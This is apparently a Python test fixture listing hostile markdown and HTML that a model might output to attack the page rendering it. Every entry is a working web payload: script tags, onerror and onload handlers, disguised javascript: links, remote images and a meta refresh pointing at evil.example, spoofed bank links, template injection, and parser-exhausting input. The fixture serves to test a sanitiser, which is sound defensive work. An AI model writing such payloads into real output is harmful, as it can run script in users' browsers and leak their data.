"""What a hostile model may write to become part of the page that shows it."""

from collections.abc import Mapping

EVIL = "https://evil.example"
RUN = "window.owned=1;document.title='owned'"
PAGES: Mapping[str, str] = {
    "scripts": f"<script>{RUN}</script><SCRIPT SRC={EVIL}/a.js></SCRIPT><script type=module>{RUN}</script>",
    "handlers": f'<img src=x onerror="{RUN}"><svg onload="{RUN}"><body onload="{RUN}"><details open ontoggle="{RUN}">x',
    "frames": f'<iframe src="javascript:{RUN}"></iframe><object data="{EVIL}"></object><embed src="{EVIL}">',
    "heads of pages": f'<base href="{EVIL}/"><meta http-equiv=refresh content="0;url={EVIL}">'
    f"<link rel=stylesheet href={EVIL}>",
    "forms": f'<form action="{EVIL}"><button formaction="javascript:{RUN}">go</button></form>',
    "styles": f"<style>*{{background:url({EVIL}/s)}}</style><p style='position:fixed;inset:0'>covers all</p>",
    "script links": f"[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN}) [c](java\tscript:{RUN}) [d](&#106;avascript:{RUN})",
    "script links in angle brackets": f"<javascript:{RUN}> [x](<javascript:{RUN}>) [y](vbscript:x) "
    f"[z](data:text/html,<script>{RUN}</script>)",
    "reference links": f"[click][1] ![see][2]\n\n[1]: javascript:{RUN}\n[2]: {EVIL}/reference.png",
    "remote pictures": f"![]({EVIL}/a.png) ![x]({EVIL}/b.svg 'title') ![x](//evil.example/c.png) "
    f"[![x]({EVIL}/d.png)]({EVIL}/e)",
    "pictures of our own": "![x](/api/login-codes) ![x](data:image/svg+xml,<svg onload=alert(1)>) ![x](blob:x)",
    "pictures within": f"| a |\n|---|\n| ![x]({EVIL}/t.png) |\n\n- ![x]({EVIL}/l.png)\n\n> ![x]({EVIL}/q.png)",
    "footnotes": f"A note[^1].\n\n[^1]: ![x]({EVIL}/f.png) [x](javascript:{RUN})\n[^constructor]: y",
    "links that lie": "[https://bank.example](https://bank.example@evil.example) "
    f"[bank.example]({EVIL}) <https://x:y@evil.example>",
    "attributes broken out of": f'![" onerror="{RUN}]({EVIL}/o.png) [x]({EVIL}/"onmouseover="{RUN}) '
    f'`"><img src=x onerror={RUN}>`',
    "names of objects": "[x](#__proto__) <a name=body></a> <img name=getElementById> <form id=main>",
    "fences that are none": f"```html\n<script>{RUN}</script>\n````\n~~~\n<img src=x onerror={RUN}>",
    "templates": "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= 1 %> \\(\\href{javascript:alert(1)}{x}\\)",
    "brackets without end": "[" * 15_000,
    "emphasis without end": "*a " * 6_000 + "_b " * 3_000,
    "quotes in quotes": ">" * 4_000 + " x",
    "lists in lists": "\n".join("  " * depth + "- x" for depth in range(300)),
    "tables without end": "|a" * 2_000 + "\n" + "|-" * 2_000 + "\n" + "|b" * 2_000,
}
